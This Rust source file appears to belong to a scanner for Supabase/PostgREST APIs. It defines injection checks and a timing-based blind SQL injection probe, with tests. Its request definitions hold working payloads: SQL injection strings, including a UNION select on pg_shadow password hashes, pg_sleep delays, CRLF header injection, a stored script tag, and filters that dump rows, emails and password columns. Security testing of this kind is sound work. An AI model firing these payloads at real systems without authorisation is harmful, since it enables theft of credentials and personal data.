//! Filter, RPC and header injection through PostgREST.

use std::time::Duration;

use serde_json::json;

use crate::attack::{Attack, BoxFuture};
use crate::check::{Check, RequestDef};
use crate::error::AttackError;
use crate::meta::{AttackMeta, Category, Severity};
use crate::result::Verdict;
use crate::rule::Rule;
use crate::session::{KeyRole, Service, Session};

const SQL_ERRORS: &[&str] = &[
    "syntax error at or near",
    "unterminated quoted string",
    "invalid input syntax",
    "pg_catalog",
];

pub(super) const CHECKS: &[Check] = &[
    crate::check! {
        id: "injection/filter-quote",
        name: "SQL error from filter value",
        description: "Puts a quote-breaking payload in an eq filter and looks for raw Postgres errors in the response.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["sqli"],
        request: RequestDef::get(Service::Rest, "profiles?id=eq.1%27%20OR%20%271%27=%271"),
        rule: Rule::BodyContains(SQL_ERRORS),
    },
    crate::check! {
        id: "injection/or-bypass",
        name: "OR filter widens result set",
        description: "Uses an always-true or= filter to read rows a narrower filter would hide.",
        category: Category::Injection,
        severity: Severity::High,
        tags: &["filter"],
        request: RequestDef::get(Service::Rest, "profiles?select=*&or=(id.not.is.null,id.is.null)&limit=5"),
        rule: Rule::Rows,
    },
    crate::check! {
        id: "injection/rpc-sql",
        name: "SQL injection in RPC argument",
        description: "Calls a search function with a classic tautology payload and looks for SQL errors.",
        category: Category::Injection,
        severity: Severity::High,
        tags: &["sqli", "rpc"],
        request: RequestDef::post(Service::Rest, "rpc/search", r#"{"query":"' OR 1=1--"}"#),
        rule: Rule::Any(&[Rule::BodyContains(SQL_ERRORS), Rule::Rows]),
    },
    crate::check! {
        id: "injection/like-wildcard",
        name: "Wildcard filter enumerates emails",
        description: "Filters with like.* on an email column to dump addresses.",
        category: Category::Injection,
        severity: Severity::High,
        tags: &["filter", "pii"],
        request: RequestDef::get(Service::Rest, "profiles?select=email&email=like.*%40*&limit=5"),
        rule: Rule::Rows,
    },
    crate::check! {
        id: "injection/json-path",
        name: "JSON path into private columns",
        description: "Selects nested keys out of a metadata column that RLS column grants may not cover.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["filter"],
        request: RequestDef::get(Service::Rest, "profiles?select=metadata->>password,metadata->>token&limit=5"),
        rule: Rule::All(&[Rule::Rows, Rule::BodyMatches(r#""(password|token)"\s*:\s*"[^"]+""#)]),
    },
    crate::check! {
        id: "injection/order-by",
        name: "SQL error from order parameter",
        description: "Puts a quoted expression in the order parameter and looks for raw Postgres errors.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["sqli"],
        request: RequestDef::get(Service::Rest, "profiles?select=id&order=id%27%3Bselect%201--"),
        rule: Rule::BodyContains(SQL_ERRORS),
    },
    crate::check! {
        id: "injection/select-cast",
        name: "Cast errors in select list",
        description: "Casts a text column to int in the select list to surface values through conversion errors.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["sqli", "information-disclosure"],
        request: RequestDef::get(Service::Rest, "profiles?select=email::int&limit=1"),
        rule: Rule::BodyContains(&["invalid input syntax for type integer"]),
    },
    crate::check! {
        id: "injection/in-list",
        name: "Malformed in() filter errors",
        description: "Sends an unbalanced in() list and looks for raw parser errors.",
        category: Category::Injection,
        severity: Severity::Low,
        tags: &["sqli"],
        request: RequestDef::get(Service::Rest, "profiles?id=in.(1,2%27))"),
        rule: Rule::BodyContains(SQL_ERRORS),
    },
    crate::check! {
        id: "injection/fts-operator",
        name: "Full-text search operator injection",
        description: "Sends a malformed tsquery through the fts operator.",
        category: Category::Injection,
        severity: Severity::Low,
        tags: &["sqli", "fts"],
        request: RequestDef::get(Service::Rest, "posts?select=id&title=fts.%27%20%26%20!"),
        rule: Rule::BodyContains(&["syntax error in tsquery"]),
    },
    crate::check! {
        id: "injection/rpc-union",
        name: "UNION payload in RPC argument",
        description: "Passes a UNION SELECT through a search RPC and looks for catalog data in the rows.",
        category: Category::Injection,
        severity: Severity::Critical,
        tags: &["sqli", "rpc"],
        request: RequestDef::post(
            Service::Rest,
            "rpc/search",
            r#"{"query":"x' UNION SELECT usename, passwd FROM pg_shadow--"}"#,
        ),
        rule: Rule::Any(&[Rule::BodyContains(&["postgres", "md5", "SCRAM-SHA-256"]), Rule::BodyContains(SQL_ERRORS)]),
    },
    crate::check! {
        id: "injection/rpc-stacked",
        name: "Stacked query in RPC argument",
        description: "Passes a stacked statement through a search RPC.",
        category: Category::Injection,
        severity: Severity::High,
        tags: &["sqli", "rpc"],
        request: RequestDef::post(Service::Rest, "rpc/search", r#"{"query":"x'; select pg_sleep(0)--"}"#),
        rule: Rule::BodyContains(SQL_ERRORS),
    },
    crate::check! {
        id: "injection/rpc-type-confusion",
        name: "RPC argument type confusion",
        description: "Sends an object where a text argument is expected.",
        category: Category::Injection,
        severity: Severity::Low,
        tags: &["rpc"],
        request: RequestDef::post(Service::Rest, "rpc/search", r#"{"query":{"$ne":null}}"#),
        rule: Rule::BodyContains(&["could not find the function", "invalid input syntax"]),
    },
    crate::check! {
        id: "injection/header-crlf",
        name: "CRLF injection in Prefer",
        description: "Embeds an encoded CRLF in a Prefer header value and checks whether it reaches the response headers.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["headers", "crlf"],
        request: RequestDef::get(Service::Rest, "profiles?select=id&limit=1").with_headers(&[("Prefer", "return=minimal%0d%0aX-Injected: supaprobe")]),
        rule: Rule::HeaderContains("x-injected", "supaprobe"),
    },
    crate::check! {
        id: "injection/embedded-filter",
        name: "Filter on embedded resource widens reads",
        description: "Filters an embedded relation with an always-true condition to pull related rows.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["filter"],
        request: RequestDef::get(Service::Rest, "profiles?select=id,orders(*)&orders.or=(id.not.is.null,id.is.null)&limit=5"),
        rule: Rule::Rows,
    },
    crate::check! {
        id: "injection/not-filter",
        name: "Negated filter bypass",
        description: "Uses not.eq on a user filter to return everyone else's rows.",
        category: Category::Injection,
        severity: Severity::High,
        tags: &["filter"],
        request: RequestDef::get(Service::Rest, "profiles?select=*&id=not.eq.00000000-0000-0000-0000-000000000000&limit=5"),
        rule: Rule::Rows,
    },
    crate::check! {
        id: "injection/ilike-password",
        name: "Pattern match against secret columns",
        description: "Uses ilike on a password column; a filterable secret column can be brute forced a character at a time.",
        category: Category::Injection,
        severity: Severity::High,
        tags: &["filter", "secrets"],
        request: RequestDef::get(Service::Rest, "users?select=id&password=ilike.a*&limit=1"),
        rule: Rule::Status(&[200, 206]),
    },
    crate::check! {
        id: "injection/json-operator-error",
        name: "JSON operator errors leak structure",
        description: "Applies a JSON path to a non-JSON column and looks for type errors.",
        category: Category::Injection,
        severity: Severity::Low,
        tags: &["information-disclosure"],
        request: RequestDef::get(Service::Rest, "profiles?select=id->>x&limit=1"),
        rule: Rule::BodyContains(&["operator does not exist", "cannot extract"]),
    },
    crate::check! {
        id: "injection/xss-stored",
        name: "Script stored in a text column",
        description: "Inserts a script tag into a comment inside a rolled-back transaction and checks it is echoed unescaped.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["xss", "write"],
        request: RequestDef::post(Service::Rest, "comments", r#"{"body":"<script>document.title='supaprobe'</script>"}"#)
            .with_headers(&[("Prefer", "tx=rollback, return=representation")]),
        rule: Rule::All(&[Rule::Success, Rule::BodyContains(&["<script>"])]),
    },
    crate::check! {
        id: "injection/graphql-filter",
        name: "GraphQL filter injection",
        description: "Sends a GraphQL filter that nests an always-true or clause.",
        category: Category::Injection,
        severity: Severity::Medium,
        tags: &["graphql", "filter"],
        request: RequestDef::post(
            Service::GraphQl,
            "",
            r#"{"query":"{ profilesCollection(filter: {or: [{id: {is: NULL}}, {id: {is: NOT_NULL}}]}) { edges { node { id } } } }"}"#,
        ),
        rule: Rule::JsonPointer("/data/profilesCollection/edges/0"),
    },
    crate::check! {
        id: "injection/column-enumeration",
        name: "Unknown column error names columns",
        description: "Selects a column that does not exist and looks for hints naming real columns.",
        category: Category::Injection,
        severity: Severity::Low,
        tags: &["information-disclosure"],
        request: RequestDef::get(Service::Rest, "profiles?select=passwd&limit=1"),
        rule: Rule::BodyContains(&["perhaps you meant", "column profiles.passwd does not exist"]),
    },
];

pub(super) const PROBES: &[&dyn Attack] = &[&TimingSqli::DEFAULT];

/// Compares a baseline RPC call against one carrying a `pg_sleep` payload.
pub(super) struct TimingSqli {
    sleep_secs: u64,
    threshold: Duration,
}

impl TimingSqli {
    const DEFAULT: Self = Self {
        sleep_secs: 3,
        threshold: Duration::from_millis(2500),
    };
}

static TIMING_SQLI: AttackMeta = AttackMeta {
    id: "injection/timing-sqli",
    name: "Blind SQL injection (timing)",
    description: "Measures the delay a pg_sleep payload adds to an RPC call compared with a benign argument.",
    category: Category::Injection,
    severity: Severity::Critical,
    tags: &["sqli", "rpc", "blind"],
    requires_service_key: false,
};

impl Attack for TimingSqli {
    fn meta(&self) -> &AttackMeta {
        &TIMING_SQLI
    }

    fn probe<'a>(&'a self, session: &'a Session) -> BoxFuture<'a, Result<Verdict, AttackError>> {
        Box::pin(async move {
            let baseline = session
                .observe(session.post_json(Service::Rest, "rpc/search", KeyRole::Anon, &json!({ "query": "supaprobe" }))?)
                .await?;

            let payload = format!("'; SELECT pg_sleep({}); --", self.sleep_secs);
            let delayed = session
                .observe(session.post_json(Service::Rest, "rpc/search", KeyRole::Anon, &json!({ "query": payload }))?)
                .await?;

            let added = delayed.elapsed.saturating_sub(baseline.elapsed);
            let evidence = json!({
                "baselineMs": u64::try_from(baseline.elapsed.as_millis()).unwrap_or(u64::MAX),
                "payloadMs": u64::try_from(delayed.elapsed.as_millis()).unwrap_or(u64::MAX),
                "payloadStatus": delayed.status,
            });

            let verdict = if added >= self.threshold {
                Verdict::breached(format!(
                    "pg_sleep payload added {}ms; manual review recommended",
                    added.as_millis()
                ))
            } else {
                Verdict::secure(format!("no timing difference ({}ms)", added.as_millis()))
            };
            Ok(verdict.with_evidence(evidence))
        })
    }
}

#[cfg(test)]
mod tests {
    use wiremock::matchers::{body_string_contains, method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};

    use super::*;
    use crate::result::AttackStatus;
    use crate::session::{AttackContext, DEFAULT_REQUEST_TIMEOUT};

    const FAST: TimingSqli = TimingSqli {
        sleep_secs: 1,
        threshold: Duration::from_millis(300),
    };

    fn session_for(server: &MockServer) -> Session {
        let ctx = AttackContext::new(&server.uri(), "anon").unwrap();
        Session::new(ctx, DEFAULT_REQUEST_TIMEOUT).unwrap()
    }

    #[tokio::test]
    async fn sleep_payload_delay_is_breached() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .and(path("/rest/v1/rpc/search"))
            .and(body_string_contains("pg_sleep"))
            .respond_with(ResponseTemplate::new(200).set_delay(Duration::from_millis(600)))
            .with_priority(1)
            .mount(&server)
            .await;
        Mock::given(method("POST"))
            .and(path("/rest/v1/rpc/search"))
            .respond_with(ResponseTemplate::new(200).set_body_string("[]"))
            .mount(&server)
            .await;

        let result = FAST.execute(&session_for(&server), Duration::from_secs(10)).await;

        assert_eq!(result.status, AttackStatus::Breached);
        assert!(result.summary.contains("manual review"));
        assert!(result.evidence.unwrap()["payloadMs"].as_u64().unwrap() >= 600);
    }

    #[tokio::test]
    async fn equal_timings_are_secure() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(ResponseTemplate::new(404))
            .mount(&server)
            .await;

        let result = FAST.execute(&session_for(&server), Duration::from_secs(10)).await;

        assert_eq!(result.status, AttackStatus::Secure);
    }
}
